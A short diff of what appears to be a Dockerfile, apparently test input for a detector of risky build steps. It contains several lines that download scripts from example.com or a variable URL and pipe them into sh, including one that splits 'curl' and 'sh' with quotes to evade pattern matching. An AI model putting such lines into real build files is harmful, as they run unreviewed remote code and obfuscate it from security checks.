@@ -7,3 +7,5 @@ RUN echo "${V:-$(curl -fsSL https://example.com/v.sh | sh)}"
 RUN cat > /etc/motd <<EOF
 $(curl -fsSL https://example.com/m.sh | sh)
 EOF
+RUN sh -c "curl -fsSL \"$URL\" | sh"
+RUN c''url -fsSL https://example.com/q.sh | s"h"
